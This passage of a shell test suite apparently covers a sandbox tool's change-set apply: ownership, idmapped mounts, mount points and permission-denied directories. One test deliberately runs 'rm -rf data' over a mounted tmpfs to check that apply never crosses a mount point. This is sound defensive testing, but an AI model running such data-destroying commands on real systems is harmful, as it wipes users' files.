		id -u && stat -c "%u %g" a sub && cat private &&
		echo two >> a && echo new > n && mkdir d && echo y > d/y && ln -s a l && echo g > sub/f'
	assert_status 0
	assert_eq "0
0 0
0 0
secret" "$out" "the project's files as the sandbox sees them"
	assert_eq "$before" "$(owners)" "the project after the run"
	id=$(cs_id)
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "one
two" "$(cat proj/a)"
	assert_eq g "$(cat proj/sub/f)"
	for f in a n d d/y l sub/f private; do
		assert_eq "$u:$g" "$(stat -c %U:%G "proj/$f")" "the owner of $f"
	done
	# apply writes as the owner: where the owner cannot write, neither does it
	run "$SBX" run -i tiny --project proj -- sh -c 'echo h > sub/f'
	id=$(cs_id)
	chown root:root proj/sub
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "Permission denied"
	assert_eq g "$(cat proj/sub/f)" "sub/f, in root's directory"
}

# Where DIR's file system cannot be idmapped (ramfs; tmpfs before Linux
# 6.3), a root caller's --project is refused, naming DIR, before a sandbox
# or a change set is made.
test_root_and_a_file_system_without_idmapped_mounts() {
	mkdir ram
	dir=$(pwd -P)/ram
	run unshare -m --propagation private sh -c '
		mount -t ramfs ramfs "$1" && echo x > "$1/x" && exec "$2" run -i tiny --project "$1" -- true' \
		sh "$dir" "$SBX"
	assert_bad_input "--project '$dir': called as root, the sandbox sees it through an idmapped mount, which its file system does not allow here: Invalid argument"
	run "$SBX" changes ls
	assert_not_contains "$out" "$dir"
}

# Called as root, a file system mounted below DIR is an empty directory
# inside (the idmapped clone has no submounts): "rm -rf data" there must
# not make apply delete what is on it, as root. The set lists data as a
# mount point, apply refuses it, the tmpfs is untouched (and unmounted at
# the end, whatever happens).
test_root_a_file_system_mounted_below_the_project_is_never_touched() {
	u=${SBX_TEST_USER:-sbxtest}
	project
	mkdir proj/data
	chown -R "$u:$(id -gn "$u")" proj
	data=$(cd proj/data && pwd -P)
	# the owner's files on it: as the owner, apply could delete them
	mount -t tmpfs -o "size=1m,mode=755,uid=$(id -u "$u"),gid=$(id -g "$u")" sbxt-data "$data"
	at_exit 'umount -l "$data" 2>/dev/null || true'
	echo precious > "$data/precious"
	chown "$u:$(id -gn "$u")" "$data/precious"
	run "$SBX" run -i tiny --project proj -- sh -c 'ls -A data; rm -rf data && echo two >> a'
	assert_status 0
	assert_eq "" "$out" "data inside the sandbox"
	id=$(cs_id)
	run "$SBX" changes show "$id"
	assert_contains "$(printf '%s\n' "$out" | grep -w data)" "deleted dir" "changes show"
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: a mount point on the host: apply never crosses one: 'data'"
	run "$SBX" changes apply --force-rest "$id"
	assert_status 0
	assert_eq "one
two" "$(cat proj/a)"
	assert_eq precious "$(cat "$data/precious")" "the file on the tmpfs"
	mountpoint -q "$data" || fail "the tmpfs is no longer mounted"
}

# Issue 40: a directory of the project the host denies (mode 000 after the
# run) was "gone or a symlink now" in the verdict; the verdict says the
# real cause, and apply refuses it as a conflict. Root reads every
# directory: its apply goes through.
test_a_directory_the_host_denies_is_named_as_such() {
	project
	mkdir proj/locked
	echo l > proj/locked/l
	run "$SBX" run -i tiny --project proj -- sh -c 'echo two >> locked/l'
	assert_status 0
	id=$(cs_id)
	chmod 000 proj/locked
	run "$SBX" changes show "$id"
	assert_status 0
	assert_not_contains "$out$err" "gone or is a symlink"
	if [ "$(id -u)" = 0 ]; then
		run "$SBX" changes apply "$id"
		assert_status 0 "root's apply below a directory of mode 000"
		chmod 755 proj/locked
		assert_eq "l two" "$(cat proj/locked/l | tr '\n' ' ' | sed 's/ $//')"
		return
	fi
	assert_contains "$out" "the host denies access to its directory (permission denied)"
	run "$SBX" changes apply "$id"
	assert_status 125
	assert_contains "$err" "conflict: the host denies access to its directory (permission denied): 'locked/l'"
	chmod 755 proj/locked
	assert_eq l "$(cat proj/locked/l)" "the file after the refused apply"
	run "$SBX" changes apply "$id"
	assert_status 0
	assert_eq "l two" "$(cat proj/locked/l | tr '\n' ' ' | sed 's/ $//')"
}
